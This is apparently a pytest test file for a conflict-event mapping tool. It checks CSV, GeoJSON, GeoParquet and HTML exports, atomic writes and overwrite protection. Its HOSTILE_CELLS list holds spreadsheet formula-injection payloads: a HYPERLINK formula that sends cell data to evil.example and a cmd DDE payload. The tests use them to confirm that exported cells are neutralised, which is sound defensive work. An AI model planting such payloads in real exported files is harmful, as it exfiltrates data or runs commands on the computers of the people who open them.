"""The export registry: every format writes what it says, atomically, and never over a database."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pyarrow.parquet as pq
import pytest
import shapely

from geo.errors import ExportError
from geo.events.record import Event
from geo.export import FORMATS, ExportOptions, export_bytes, export_events

EVENTS = [
    Event(id=1, event_type="Battles", sub_event_type="Armed clash", date_start="2022-03-07",
          date_end="2022-03-07", time_precision="day", country="UA", location="Kharkiv", latitude=49.98,
          longitude=36.25, geo_precision="exact", geometry={"type": "Point", "coordinates": [36.25, 49.98]},
          gazetteer_id="geonames:706483", notes="Russian forces shelled Kharkiv.",
          sources=[{"article_id": "a1", "quote": "Russian forces shelled Kharkiv.", "start": 0, "end": 31,
                    "title": "T", "publisher": "Wire", "url": "https://example.org/a", "published": "2022-03-08"}]),
    Event(id=2, event_type="Diplomacy", date_start="2022-02-27", date_end="2022-02-27", time_precision="day",
          location="Belarus–Ukraine border", latitude=51.5, longitude=30.0, geo_precision="border",
          geometry={"type": "LineString", "coordinates": [[29.9, 51.4], [30.1, 51.6]]}, notes="Talks."),
    Event(id=3, event_type="Protests", notes="Undated and unplaced."),
]  # fmt: skip


def test_the_registry_lists_the_formats():
    assert list(FORMATS) == ["html", "csv", "geojson", "geoparquet"]
    assert all(f.suffix.startswith(".") and f.description for f in FORMATS.values())


def test_csv_has_acled_columns_then_ours():
    rows = list(csv.DictReader(io.StringIO(export_bytes(EVENTS, "csv").decode("utf-8"))))
    assert rows[0]["event_id_cnty"] == "CM1" and rows[0]["source"] == "Wire" and rows[0]["geo_precision"] == "1"
    assert json.loads(rows[1]["geometry"])["type"] == "LineString"


def test_geojson_is_a_feature_collection_with_the_sources():
    data = json.loads(export_bytes(EVENTS, "geojson"))
    assert [f["geometry"] and f["geometry"]["type"] for f in data["features"]] == ["Point", "LineString", None]
    assert data["features"][0]["properties"]["sources"][0]["publisher"] == "Wire"


def test_geoparquet_has_wkb_geometry_and_geo_metadata(tmp_path):
    size = export_events(EVENTS, "geoparquet", tmp_path / "events.parquet")
    table = pq.read_table(tmp_path / "events.parquet")
    assert size > 0 and table.num_rows == 3
    geo = json.loads(table.schema.metadata[b"geo"])
    assert geo["primary_column"] == "geometry" and geo["columns"]["geometry"]["encoding"] == "WKB"
    assert geo["columns"]["geometry"]["geometry_types"] == ["LineString", "Point"]
    shapes = [shapely.from_wkb(b) if b else None for b in table.column("geometry").to_pylist()]
    assert shapes[0].equals(shapely.Point(36.25, 49.98)) and shapes[2] is None
    assert json.loads(table.column("sources").to_pylist()[0])[0]["article_id"] == "a1"
    assert table.column("latitude").type == "double" and table.column("fatalities").type == "int64"


def test_html_is_the_offline_map(tmp_path, index_path):
    page = export_bytes(EVENTS[:1], "html", ExportOptions(title="Map", index_path=index_path)).decode("utf-8")
    assert "<title>Map</title>" in page and "Kharkiv" in page and "unpkg" not in page


def test_unknown_format_names_the_choices():
    with pytest.raises(ExportError, match=r"Unknown export format 'kml': choose one of html, csv, geojson, geoparquet"):
        export_bytes(EVENTS, "kml")


def test_a_database_is_never_overwritten(tmp_path):
    store = tmp_path / "events.sqlite"
    sqlite3.connect(store).execute("CREATE TABLE t(x)").connection.commit()
    before = store.read_bytes()
    with pytest.raises(ExportError, match="is a database .* refusing to overwrite it"):
        export_events(EVENTS, "csv", store)
    assert store.read_bytes() == before


def test_folders_and_missing_folders_are_named(tmp_path):
    with pytest.raises(ExportError, match="is a folder: give a file name"):
        export_events(EVENTS, "csv", tmp_path)
    with pytest.raises(ExportError, match="does not exist: create it first"):
        export_events(EVENTS, "csv", tmp_path / "nope" / "events.csv")


def test_a_failed_export_leaves_the_old_file_and_no_part_file(tmp_path, monkeypatch):
    target = tmp_path / "events.csv"
    target.write_text("the old export", encoding="utf-8")

    def broken(events, stream, options):
        stream.write(b"half")
        raise RuntimeError("disk full")

    monkeypatch.setitem(FORMATS, "csv", FORMATS["csv"].__class__("csv", ".csv", "text/csv", "x", broken))
    with pytest.raises(RuntimeError, match="disk full"):
        export_events(EVENTS, "csv", target, force=True)
    assert target.read_text(encoding="utf-8") == "the old export"
    assert [p.name for p in tmp_path.iterdir()] == ["events.csv"]


@pytest.mark.parametrize("name", ["csv", "geojson", "geoparquet", "html"])
def test_an_earlier_export_is_replaced_anything_else_only_with_force(tmp_path, index_path, name):
    target = tmp_path / f"events{FORMATS[name].suffix}"
    options = ExportOptions(index_path=index_path)
    export_events(EVENTS, name, target, options)
    export_events(EVENTS[:1], name, target, options)  # an earlier export: replaced
    notes = tmp_path / f"notes{FORMATS[name].suffix}"
    notes.write_text("my own notes", encoding="utf-8")
    with pytest.raises(ExportError, match=f"is not an earlier {name} export of conflictmap .* or add --force"):
        export_events(EVENTS, name, notes, options)
    assert notes.read_text(encoding="utf-8") == "my own notes"
    assert export_events(EVENTS, name, notes, options, force=True) > 0


def test_an_export_is_readable_like_any_file_written_here(tmp_path):
    import os

    umask = os.umask(0o022)
    try:
        export_events(EVENTS, "csv", tmp_path / "events.csv")
    finally:
        os.umask(umask)
    assert (tmp_path / "events.csv").stat().st_mode & 0o777 == 0o644


# Issue 21, 1: a file is "an earlier export" only if it bears our mark, whatever it starts with.
ACLED_DOWNLOAD = (
    "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,latitude,"
    "longitude,notes,fatalities\nUKR1,2022-03-07,2022,1,Political violence,Battles,Armed clash,A,49.98,36.25,x,0\n"
)


def _their_parquet(path):
    import pyarrow as pa

    pq.write_table(pa.table({"x": [1, 2]}), path)


THEIR_FILES = {
    "geojson (json.dump)": ("geojson", lambda p: p.write_text(json.dumps({"type": "FeatureCollection", "features": []}))),
    "csv (an ACLED download)": ("csv", lambda p: p.write_text(ACLED_DOWNLOAD)),
    "csv (our header's first columns)": ("csv", lambda p: p.write_text("event_id_cnty,event_date,year\n1,2,3\n")),
    "geoparquet (any Parquet)": ("geoparquet", _their_parquet),
    "html (any page)": ("html", lambda p: p.write_text("<!DOCTYPE html><html><head></head><body>mine</body></html>")),
}  # fmt: skip


@pytest.mark.parametrize("what", list(THEIR_FILES))
def test_a_file_without_our_mark_is_replaced_only_with_force(tmp_path, what):
    name, make = THEIR_FILES[what]
    target = tmp_path / f"theirs{FORMATS[name].suffix}"
    make(target)
    before = target.read_bytes()
    with pytest.raises(ExportError, match=f"is not an earlier {name} export of conflictmap .* add --force"):
        export_events(EVENTS[:1], name, target)
    assert target.read_bytes() == before


@pytest.mark.parametrize("name", ["csv", "geojson", "geoparquet"])
def test_every_export_bears_its_mark(tmp_path, name):
    target = tmp_path / f"events{FORMATS[name].suffix}"
    export_events(EVENTS, name, target)
    assert FORMATS[name].is_export(target, target.read_bytes()[:4096])


def test_geojson_mark_is_a_foreign_member_the_rest_unchanged():
    data = json.loads(export_bytes(EVENTS, "geojson"))
    assert data["type"] == "FeatureCollection" and data["conflictmap"] == "events export"


@pytest.mark.parametrize("force", [False, True], ids=["plain", "force"])
def test_the_data_directory_is_never_a_target(tmp_path, force):
    data = tmp_path / "data"
    data.mkdir()
    places = data / "user_places.geojson"
    places.write_text('{"type": "FeatureCollection", "features": [\n]}\n', encoding="utf-8")
    before = places.read_bytes()
    for target in (places, data / "new.geojson", data / "sub" / ".." / "user_places.geojson"):
        with pytest.raises(ExportError, match=r"is in your data directory .* exports never go there"):
            export_events(EVENTS, "geojson", target, force=force, data_dir=data)
    assert places.read_bytes() == before and sorted(p.name for p in data.iterdir()) == ["user_places.geojson"]


def test_the_data_directory_defaults_to_the_configured_one(tmp_path, _private_data_dir):
    _private_data_dir.mkdir()
    with pytest.raises(ExportError, match="is in your data directory"):
        export_events(EVENTS, "csv", _private_data_dir / "events.csv")


# Issue 21, 4: a spreadsheet must not run what an article or an imported row says.
HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
                 "\tTAB", "\rCR=1"]  # fmt: skip


def test_csv_cells_a_spreadsheet_would_run_are_prefixed():
    notes, actor, location = HOSTILE_CELLS[:3]
    event = Event(id=9, event_type="Battles", notes=notes, actor1=actor, location=location, actor2="-2+3",
                  country="\tTAB", admin1="\rCR=1", latitude=-12.5, longitude=-45.0, fatalities=0,
                  source="Wire")  # fmt: skip
    row = next(csv.DictReader(io.StringIO(export_bytes([event], "csv").decode("utf-8"))))
    assert [row[k] for k in ("notes", "actor1", "location", "actor2", "country", "admin1")] == [
        "'" + cell for cell in HOSTILE_CELLS
    ]
    assert (row["latitude"], row["longitude"], row["source"]) == ("-12.5", "-45.0", "Wire")  # numbers as they are


@pytest.mark.parametrize("cell", ["-12.5", "+3", "-1e5", "1", "plain text", "a=b", ""])
def test_numbers_and_plain_text_are_not_prefixed(cell):
    from geo.export.acled import spreadsheet_safe

    assert spreadsheet_safe(cell) == cell


def test_our_csv_reads_back_without_the_prefix():
    from geo.export.acled import read_csv

    event = Event(id=1, event_type="Battles", notes="=1+1", actor1="@home", date_start="2022-03-01",
                  date_end="2022-03-01", time_precision="day", latitude=50.0, longitude=30.0)  # fmt: skip
    (back,) = read_csv(export_bytes([event], "csv").decode("utf-8"))
    assert (back.notes, back.actor1) == ("=1+1", "@home")


def test_a_full_disk_is_one_error_and_leaves_no_part_file(tmp_path, monkeypatch):
    """Issue 21, 9: an OSError traceback, the old export kept."""
    import errno

    target = tmp_path / "events.csv"
    export_events(EVENTS, "csv", target)
    before = target.read_bytes()

    def full(events, stream, options):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setitem(FORMATS, "csv", FORMATS["csv"].__class__("csv", ".csv", "text/csv", "x", full, FORMATS["csv"].is_export))
    with pytest.raises(ExportError, match=r"Cannot write .*events\.csv: No space left on device\. The file there is "
                                          r"unchanged; free some space"):  # fmt: skip
        export_events(EVENTS, "csv", target)
    assert target.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["events.csv"]
